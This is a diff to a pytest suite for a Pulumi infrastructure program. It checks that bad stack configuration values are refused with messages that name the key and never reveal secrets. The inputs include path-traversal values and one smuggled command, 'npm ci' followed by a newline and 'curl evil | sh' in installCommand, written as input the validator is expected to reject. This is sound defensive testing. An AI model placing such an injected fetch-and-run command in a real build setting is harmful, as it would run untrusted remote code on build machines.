@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import runpy
+import subprocess
 from pathlib import Path
 
 import jsonschema
@@ -41,7 +42,7 @@ def test_every_stack_config_field_is_declared_in_pulumi_yaml_with_the_matching_t
     decls = projectfile.declarations(ROOT)
     expected = {"str": "string", "int": "integer", "bool": "boolean", "tuple[str, ...]": "array",
                 "pulumi.Output[str]": "string", "VercelPlan": "string",
-                "ManagedRulesMode": "string"}
+                "ManagedRulesMode": "string", "Framework": "string"}
     for field in config.fields(config.StackConfig):
         if field.name == "stack":
             continue
@@ -148,7 +149,7 @@ def test_a_missing_secret_is_named_with_the_secret_set_command():
         ({"dbName": "a" * 57}, "must be at most 56 characters"),
         ({"dbPasswordVersion": 0}, "ara-infra:dbPasswordVersion: must be between 1"),
         ({"appDirectory": "."}, "contains this program"),
-        ({"appDirectory": ".."}, "contains this program"),
+        ({"appDirectory": ".."}, "is outside the program directory"),
         ({"clerkPublishableKey": "sk_live_oops"}, "ara-infra:clerkPublishableKey"),
         ({"rateLimitWindowSeconds": 86400}, "ara-infra:rateLimitWindowSeconds: must be between 10 and 3600"),
         ({"rateLimitPath": "api"}, "ara-infra:rateLimitPath"),
@@ -220,8 +221,8 @@ def test_a_secret_set_in_plain_text_is_refused():
 @pytest.mark.parametrize(
     ("key", "bad", "expected"),
     [
-        ("upstashRedisUrl", "redis://default:hunter2-planted@eu1.upstash.io:6379", "must be a rediss:// URL"),
-        ("sentryDsn", "http://hunter2-planted@sentry.io/1", "must be an https:// DSN"),
+        ("upstashRedisUrl", "redis://default:hunter2-planted@eu1.upstash.io:6379", "must be a rediss://"),
+        ("sentryDsn", "http://hunter2-planted@sentry.io/1", "must be an https://"),
         ("clerkSecretKey", "hunter2-planted", "must be a Clerk secret key"),
     ],
 )
@@ -352,3 +353,132 @@ def test_the_policy_packs_window_limit_is_the_stacks_plan_limit(stack):
     configured = pack.get("vercel-firewall-restrict-rate-limit-window", {}).get("maxWindowSeconds")
     default = catalog.RATE_LIMIT_MAX_WINDOW_SECONDS["pro"]
     assert (configured or default) == config.PLAN_LIMITS[plan].max_rate_limit_window_seconds
+
+
+# --- refusals by class of bad input -------------------------------------------------------
+# Each row is one class the fuzzed gate let through; the message must name the key.
+
+CANARY = "CANARY-9d1f-planted"
+
+BAD_VALUES = {
+    "trailing newline in an identifier": ({"dbName": "ara_prod\n"}, "ara-infra:dbName: must not contain line breaks"),
+    "trailing newline in a host": ({"domain": "app.appstoagents.com\n"}, "ara-infra:domain: must not contain"),
+    "newline in a path": ({"rateLimitPath": "/api\n"}, "ara-infra:rateLimitPath: must not contain"),
+    "newline in a publishable key": ({"clerkPublishableKey": "pk_live_abc\n"}, "ara-infra:clerkPublishableKey"),
+    "bidi override in a list item": ({"cspConnectSources": ["https://a.example.com\u202e"]},
+                                     "ara-infra:cspConnectSources: must not contain"),
+    "NUL in a command": ({"buildCommand": "npm run build\x00"}, "ara-infra:buildCommand: must not contain"),
+    "newline in a command": ({"installCommand": "npm ci\ncurl evil | sh"},
+        "ara-infra:installCommand: must not contain"),
+    "database named postgres": ({"dbName": "postgres"}, "ara-infra:dbName: 'postgres' is a Postgres system database"),
+    "database named template0": ({"dbName": "template0"}, "'template0' is a Postgres system database"),
+    "database named template1": ({"dbName": "template1"}, "'template1' is a Postgres system database"),
+    "database equal to the admin database": ({"dbAdminDatabase": "ara_prod"},
+        "ara-infra:dbName: must differ from dbAdminDatabase"),
+    "database with the pg_ prefix": ({"dbName": "pg_ara"}, "ara-infra:dbName: must not start with pg_"),
+    "admin role with the pg_ prefix": ({"dbAdminUser": "pg_admin"},
+        "ara-infra:dbAdminUser: role names starting with pg_"),
+    "program role equal to the admin role": ({"dbName": "ara", "dbAdminUser": "ara_owner"},
+                                             "the program's role 'ara_owner' would be the admin role"),
+    "appDirectory absolute": ({"appDirectory": "/etc"}, "ara-infra:appDirectory: '/etc' must be relative"),
+    "appDirectory outside the repository": ({"appDirectory": "../.."}, "ara-infra:appDirectory: '../..' is outside"),
+    "appDirectory inside .git": ({"appDirectory": ".git/hooks"}, "ara-infra:appDirectory: '.git/hooks' is inside .git"),
+    "branch starting with a dash": ({"productionBranch": "-x"},
+        "ara-infra:productionBranch: must be a git branch name"),
+    "branch starting with a dot": ({"productionBranch": ".hidden"}, "must be a git branch name: '.hidden'"),
+    "branch with a .lock part": ({"productionBranch": "a.lock/b"}, "must be a git branch name: 'a.lock/b'"),
+    "branch named HEAD": ({"productionBranch": "HEAD"}, "must be a git branch name: 'HEAD' is reserved by git"),
+    "branch that slugs to nothing": ({"productionBranch": "___"}, "has no letters or digits"),
+    "preview branch git refuses": ({"extraPreviewEnvironments": ["feat..x"]}, "ara-infra:extraPreviewEnvironments"),
+    "unknown framework preset": ({"framework": "astor"}, "ara-infra:framework: must be a Vercel framework preset"),
+    "framework preset given as a list": ({"framework": '["astro"]'}, "ara-infra:framework: must be a Vercel framework"),
+    "blank build command": ({"buildCommand": "   "}, "ara-infra:buildCommand: must be a command"),
+    "output directory escaping the build": ({"outputDirectory": "../dist"},
+        "ara-infra:outputDirectory: must be a relative"),
+    "absolute output directory": ({"outputDirectory": "/srv"}, "ara-infra:outputDirectory: must be a relative"),
+    "duplicate region": ({"functionRegions": ["iad1", "iad1"]},
+        "ara-infra:functionRegions: lists 'iad1' more than once"),
+    "duplicate CSP origin": ({"cspConnectSources": ["https://a.example.com"] * 2},
+        "ara-infra:cspConnectSources: lists"),
+    "integer with an underscore": ({"dbPort": "3_0"}, "ara-infra:dbPort: must be an integer in decimal digits"),
+    "integer in non-ASCII digits": ({"functionMaxDuration": "\u0663\u0660"},
+        "ara-infra:functionMaxDuration: must be an integer"),
+    "4,000-digit integer": ({"dbConnectionLimit": "9" * 4000}, "(4000 characters)"),
+    "integer with a leading zero": ({"dbPort": "010"}, "ara-infra:dbPort: must be an integer in decimal digits"),
+    "boolean written as yes": ({"hstsPreload": "yes"}, "ara-infra:hstsPreload: must be true or false"),
+    "misspelt key": ({"rateLimitRequest": 5}, "ara-infra:rateLimitRequest: not a key of this program"),
+    "misspelt key, wrong case": ({"dbsslmode": "verify-full"}, "did you mean 'dbSslMode'?"),
+    "misspelt namespace": ({"ara_infra:dbSslMode": "disable"},
+                           "ara_infra:dbSslMode: namespace 'ara_infra' is not this project's; "
+                           "did you mean 'ara-infra:dbSslMode'?"),
+    "misspelt namespace and key": ({"ara-infr:dbSslmode": "disable"}, "did you mean 'ara-infra:dbSslMode'?"),
+}
+
+
+@pytest.mark.parametrize("case", list(BAD_VALUES), ids=list(BAD_VALUES))
+def test_a_bad_value_is_refused_naming_the_key_before_any_resource(case):
+    overrides, expected = BAD_VALUES[case]
+    message = _fails("prod", overrides)
+    assert expected in message
+    assert "4000" not in expected or len(message) < 1000  # long values are cut short, not echoed
+
+
+def test_the_misspelt_key_suggestion_names_the_declared_key():
+    assert "did you mean 'rateLimitRequests'?" in _fails("prod", {"rateLimitRequest": 5})
+
+
+def test_keys_of_other_namespaces_are_left_to_their_providers():
+    run_program("prod", {"vercel:team": "team_abc", "cloudflare:apiToken": "x"})
+
+
+BAD_SECRETS = {
+    "empty": ("openaiApiKey", ""),
+    "blank": ("posthogApiKey", "   "),
+    "trailing newline": ("openaiApiKey", f"sk-proj-{CANARY}\n"),
+    "control character": ("dbAdminPassword", f"{CANARY}\x07"),
+    "JWT key that is not a PEM": ("clerkJwtKey", CANARY),
+    "PEM of a private key": ("clerkJwtKey", f"-----BEGIN PRIVATE KEY-----\nQ0FOQVJZ\n-----END PRIVATE KEY-----"),
+    "DSN without key or project": ("sentryDsn", "https://"),
+    "DSN over http": ("sentryDsn", f"http://{CANARY}@o0.ingest.sentry.io/1"),
+    "Redis URL without TLS": ("upstashRedisUrl", f"redis://default:{CANARY}@eu1.upstash.io:6379"),
+    "Redis URL without a password": ("upstashRedisUrl", "rediss://eu1.upstash.io:6379"),
+    "Clerk secret key of another kind": ("clerkSecretKey", f"sk_other_{CANARY}"),
+}
+
+
+@pytest.mark.parametrize("case", list(BAD_SECRETS), ids=list(BAD_SECRETS))
+def test_a_bad_secret_is_refused_naming_the_key_and_never_the_value(case):
+    key, bad = BAD_SECRETS[case]
+    source = projectfile.stack_config("prod", ROOT)
+    values = {**source.values, f"ara-infra:{key}": bad}
+    with pytest.raises(pulumi.RunError) as info:
+        _run_raw(values, source.secret_keys, stack="prod")
+    message = str(info.value)
+    assert f"ara-infra:{key}: " in message and "(value not shown)" in message
+    assert CANARY not in message
+
+
+def test_a_pem_jwt_key_is_accepted_with_real_or_escaped_newlines():
+    body = "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"
+    for pem in (f"-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n",
+                f"-----BEGIN PUBLIC KEY-----\\n{body}\\n-----END PUBLIC KEY-----"):
+        run_program("prod", {"clerkJwtKey": pem})
+
+
+# Names git itself judges: `git check-ref-format --branch` is the oracle (run outside a repository,
+# so no @{-1} expansion), and the program must agree with it.
+GIT_BRANCH_NAMES = ["main", "feature/x", "release-1.2", "-x", ".hidden", "a.lock/b", "a.lock", "HEAD", "a b",
+                    "a..b", "a/", "a.", "a@{b", "x//y", "a/.b", "foo.lock.x", "-", "a~b", "a^b", "a:b", "a?b",
+                    "a*b", "a[b", "a\\b", "@x", "x@", "HEAD/x", "a/-b", "/a", "tab\tx", "ü-branch"]
+
+
+@pytest.mark.parametrize("name", GIT_BRANCH_NAMES)
+def test_branch_names_are_judged_as_git_judges_them(name, tmp_path):
+    git = subprocess.run(["git", "check-ref-format", "--branch", name], cwd=tmp_path, capture_output=True)
+    assert (config.git_branch_problem(name) is None) == (git.returncode == 0), git.stderr
+
+
+@pytest.mark.parametrize("name", ["___", "@", "a" * 101])
+def test_branch_names_git_allows_but_resources_cannot_be_named_after_are_refused(name, tmp_path):
+    assert subprocess.run(["git", "check-ref-format", "--branch", name], cwd=tmp_path).returncode == 0
+    assert config.git_branch_problem(name)
